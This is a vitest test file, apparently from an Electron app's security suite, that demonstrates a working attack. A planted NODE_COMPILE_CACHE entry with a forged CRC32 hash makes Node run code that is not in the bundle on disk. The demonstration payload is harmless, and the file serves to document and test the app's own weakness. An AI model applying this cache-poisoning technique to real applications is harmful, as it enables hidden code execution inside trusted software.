import { describe, expect, it } from 'vitest'
import { execFileSync } from 'node:child_process'
import { mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { crc32 } from 'node:zlib'

/**
 * ATTACK (attack3): NODE_COMPILE_CACHE is an environment variable Node reads in LoadEnvironment()
 * (env->InitializeCompileCache(), node/src/api/environment.cc), the embedder entry Electron's main process uses. It is
 * not NODE_OPTIONS, so the enableNodeOptionsEnvironmentVariable fuse does not cover it, and a normal account can set
 * it (HKCU\Environment, launchctl setenv). The cache entry is trusted on a CRC32 of the source (computable) and V8's
 * check of the source LENGTH: compiled code of another script of the same length runs in place of the file on disk.
 * Here with this machine's Node (no Electron binary here): a CommonJS "main bundle" whose file is genuine runs the
 * planted code. docs/security.md says "main's bundle uses no compile cache either"; index.ts deletes only the
 * network knobs, and only after the bundle was compiled.
 */
describe('attack3: a planted NODE_COMPILE_CACHE entry replaces the main bundle\'s code', () => {
  it('runs code that is not in the file on disk', () => {
    const dir = mkdtempSync(join(tmpdir(), 'attack3-cc-'))
    const cache = join(dir, 'cache')
    const bundle = join(dir, 'index.js')
    const genuine = 'console.log("genuine main: registrations go to https://api.broker.example");'
    let evil = 'console.log("PLANTED CODE RUNS IN MAIN");'
    evil += `/*${'x'.repeat(genuine.length - evil.length - 4)}*/`
    expect(evil.length).toBe(genuine.length)
    const env = { ...process.env, NODE_COMPILE_CACHE: cache }
    delete env.NODE_OPTIONS
    // 1. the attacker compiles their own code of the same length under the bundle's path (the key is the path's hash)
    writeFileSync(bundle, evil)
    expect(execFileSync(process.execPath, [bundle], { env, encoding: 'utf8' })).toContain('PLANTED')
    // 2. and sets the entry's source hash to the genuine file's CRC32 (header: magic, code size, cache size, code hash, cache hash)
    const sub = readdirSync(cache).map((d) => join(cache, d)).find((d) => statSync(d).isDirectory())!
    const entry = join(sub, readdirSync(sub)[0]!)
    const bytes = readFileSync(entry)
    bytes.writeUInt32LE(crc32(Buffer.from(genuine)) >>> 0, 12)
    writeFileSync(entry, bytes)
    // 3. the genuine bundle is back in place (as in Program Files); the app starts with the user's environment
    writeFileSync(bundle, genuine)
    const out = execFileSync(process.execPath, [bundle], { env, encoding: 'utf8' })
    expect(out).toContain('PLANTED CODE RUNS IN MAIN')
    expect(out).not.toContain('genuine')
  })
})
